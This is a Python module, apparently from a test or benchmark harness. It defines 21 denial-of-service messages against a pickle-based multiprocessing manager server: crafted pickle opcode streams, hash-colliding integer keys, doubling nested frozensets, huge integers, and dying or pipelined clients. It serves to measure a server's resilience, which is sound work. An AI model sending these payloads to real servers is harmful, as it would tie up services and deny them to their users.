"""Messages that once held a server for seconds: those of an attack on it, one class each.

`size` scales what grows; 1 is what the attack sent.
"""

import array
import pickle
import random

from peer import (
    Link, create, doubled, doubled_frozensets, equal_references, framed, get, globe, integer, request, served, text)


class Attack:
    """One line of the table."""

    # Whether a stock manager can be sent the same, to see how long CPython takes.
    is_honest = False
    typeid = None
    arguments = ()
    # What became of the value that it is about, if that was refused.
    stored = ""

    def __init__(self, size=1.0):
        self.size = size

    @property
    def title(self):
        return " ".join(self.__doc__.split())

    def count(self, number):
        return max(1, int(number * self.size))

    def prepare(self, address, authkey):
        """Makes the object and fills it; not part of what is measured."""
        self.address, self.authkey = address, authkey
        self.peer = served(address, authkey)
        self.ident = create(address, authkey, self.typeid, *self.arguments) if self.typeid else ""
        self.fill()
        self.payload = self.message()

    def fill(self):
        pass

    def message(self):
        """The payload of the frame that is sent."""
        raise NotImplementedError

    def run(self):
        """Sends it, and returns what comes back, in words."""
        self.peer.send(self.payload)
        return words(self.peer.receive()) + self.stored

    def close(self):
        self.peer.close()

    def ask(self, method, *arguments):
        kind, result = self.peer.ask(self.ident, method, arguments)
        if kind != "#RETURN":
            raise RuntimeError("%s: %s %r" % (method, kind, result))
        return result


def words(reply):
    """A reply in a few words."""
    kind, result = reply
    if kind == "#RETURN":
        return "done"
    line = str(result).strip().splitlines()[-1] if str(result).strip() else ""
    return "%s %s" % (type(result).__name__ if kind == "#ERROR" else kind, line[:70])


class ArraySlice(Attack):
    """`a[::2] = …` on an Array of 2^20"""

    is_honest = True
    typeid = "Array"

    def __init__(self, size=1.0):
        super().__init__(size)
        self.arguments = ("i", range(self.count(1 << 20)))

    def message(self):
        half = array.array("i", range((self.count(1 << 20) + 1) // 2))
        return pickle.dumps((self.ident, "__setitem__", (slice(None, None, 2), half), {}), 4)


class ArraySliceOfRange(ArraySlice):
    """`a[::2] = range(…)` on an Array of 2^20, a short message"""

    is_honest = False

    def message(self):
        half = range((self.count(1 << 20) + 1) // 2)
        return pickle.dumps((self.ident, "__setitem__", (slice(None, None, 2), half), {}), 4)


class KeywordsOnly(Attack):
    """keys that differ only in NEWOBJ_EX keywords"""

    typeid = "dict"

    def message(self):
        parts = [globe("fractions", "Fraction"), b"\x94", b"0", b"}("]
        for number in range(self.count(3000)):
            keyword = b"}" + text("numerator") + integer(number) + b"s"
            parts += [get(0), b")", keyword, b"\x92", b"N"]
        return request(self.ident, "update", b"".join(parts) + b"u")


class SharedLongText(Attack):
    """Fraction(shared long text)"""

    typeid = "list"

    def message(self):
        digits = "1" * self.count(60000)
        one = get(0) + get(1) + b"\x85R"
        start = globe("fractions", "Fraction") + b"\x940" + text(digits) + b"\x940"
        return request(self.ident, "extend", start + b"](" + one * self.count(20000) + b"e")


class BuildInACycle(Attack):
    """BUILD steps in a cycle"""

    typeid = "list"

    def message(self):
        start = b"]\x940" + globe("builtins", "ValueError") + b")R\x94"
        step = b"}" + text("k") + get(0) + b"sb"
        return request(
            self.ident, "append", start + step * self.count(20000) + b"0" + get(0) + get(1) + b"a")


class NestedFrozensets(Attack):
    """nested frozensets that double"""

    typeid = "set"

    def message(self):
        return request(self.ident, "add", doubled_frozensets(27))


class CyclicRepr(Attack):
    """repr of a cyclic graph that doubles"""

    typeid = "list"

    def fill(self):
        graph = doubled(60) + b"0" + get(0) + get(60) + b"a"
        self.peer.send(request(self.ident, "append", graph))
        self.stored = "; stored: " + words(self.peer.receive())

    def message(self):
        return request(self.ident, "__str__", b"")


class ManyDifferences(Attack):
    """`s.difference(*[range(2**20)] * n)`"""

    typeid = "set"
    arguments = ([1, 2, 3],)

    def message(self):
        each = globe("builtins", "range") + integer(0) + integer(self.count(1 << 20)) + integer(1) + b"\x87R\x94"
        return request(self.ident, "difference", each + get(0) * 60)


class RangeUpdate(Attack):
    """`s.update(range(2**20))`"""

    is_honest = True
    typeid = "set"

    def message(self):
        return pickle.dumps((self.ident, "update", (range(self.count(1 << 20)),), {}), 4)


class DecimalDigits(Attack):
    """a protocol-0 integer of 60 MB of digits"""

    typeid = "list"

    def message(self):
        return request(self.ident, "append", b"L" + b"9" * self.count(60_000_000) + b"L\n")


class DecimalNumbers(Attack):
    """protocol-0 integers of 4,000 digits, 60 MB of them"""

    is_honest = True
    typeid = "list"

    def message(self):
        one = b"L" + b"9" * 4000 + b"L\n"
        return request(self.ident, "extend", b"](" + one * self.count(15000) + b"e")


class IndexOfZeros(Attack):
    """`index('\\0' * 16 MiB)` in a list that doesn't hold it"""

    is_honest = True
    typeid = "list"
    arguments = ([1, 2],)

    def message(self):
        return pickle.dumps((self.ident, "index", ("\0" * self.count(16 << 20),), {}), 4)


class LongMethodName(Attack):
    """an unknown method name of 60 MB"""

    is_honest = True
    typeid = "list"

    def message(self):
        return pickle.dumps((self.ident, "m" * self.count(60_000_000), (), {}), 4)


class EqualReferences(Attack):
    """comparisons of 100,000 equal references × 10,000 elements"""

    typeid = "list"

    def fill(self):
        references = equal_references(self.count(100000), b"](" + b"K\x01" * self.count(10000) + b"K\x02e")
        self.peer.send(request(self.ident, "extend", references))
        self.stored = "; stored: " + words(self.peer.receive())

    def message(self):
        return pickle.dumps((self.ident, "count", ([1] * self.count(10000) + [3],), {}), 4)


class InspectMany(Attack):
    """`inspect` of 99,000 objects"""

    def prepare(self, address, authkey):
        self.address, self.authkey = address, authkey
        self.link = Link(address, authkey)
        total = self.count(99000)
        for start in range(0, total, 1000):
            frames = [self.link.call("", "create", ("Event",)) for _ in range(min(1000, total - start))]
            self.link.send_raw(b"".join(frames))
            for _ in frames:
                self.link.connection.recv_bytes()

    def run(self):
        self.link.send_raw(self.link.call("", "inspect", ()))
        data = self.link.connection.recv_bytes()
        return "done, %d bytes" % len(data)

    def close(self):
        self.link.close()


class CollidingKeys(Attack):
    """a dict with 20,000 colliding integer keys (multiples of 2^61 - 1)"""

    typeid = "dict"

    def message(self):
        prime = (1 << 61) - 1
        parts = [b"}("]
        for number in range(1, self.count(20000) + 1):
            parts += [pickle.dumps(number * prime, 2)[2:-1], b"N"]
        return request(self.ident, "update", b"".join(parts) + b"u")


class Sort(Attack):
    """`list.sort()` of 10^6 floats"""

    is_honest = True
    typeid = "list"

    def fill(self):
        draw = random.Random(1)
        for _ in range(10):
            self.ask("extend", [draw.random() for _ in range(self.count(100000))])

    def message(self):
        return pickle.dumps((self.ident, "sort", (), {}), 4)


class Reverse(Sort):
    """`list.reverse()` of 10^6 floats"""

    def message(self):
        return pickle.dumps((self.ident, "reverse", (), {}), 4)


class WholeList(Sort):
    """a list of 10^6 floats, read as a whole"""

    def message(self):
        return pickle.dumps((self.ident, "__getitem__", (slice(None),), {}), 4)


class DeadTaker(Attack):
    """`get_all(200,000)` by a client that dies"""

    typeid = "Queue"

    def fill(self):
        for _ in range(20):
            self.ask("put_all", list(range(self.count(10000))))

    def message(self):
        return pickle.dumps((self.ident, "get_all", (self.count(200000),), {}), 4)

    def run(self):
        self.peer.send(self.payload)
        self.peer.connection.poll(30)  # The answer is there, and isn't read.
        self.peer.close()
        other = served(self.address, self.authkey)
        kind, left = other.ask(self.ident, "qsize")
        other.close()
        return "%s left" % left


class Pipelined(ManyDifferences):
    """twenty pipelined messages of `s.difference(…)`"""

    def run(self):
        self.peer.send_raw(framed(self.payload) * 20)
        return "%s, 20 times" % [words(self.peer.receive()) for _ in range(20)][-1]


ATTACKS = [
    ArraySlice, ArraySliceOfRange, KeywordsOnly, SharedLongText, BuildInACycle, NestedFrozensets, CyclicRepr,
    ManyDifferences, RangeUpdate, DecimalDigits, DecimalNumbers, IndexOfZeros, LongMethodName, EqualReferences,
    InspectMany, CollidingKeys, Sort, Reverse, WholeList, DeadTaker, Pipelined,
]
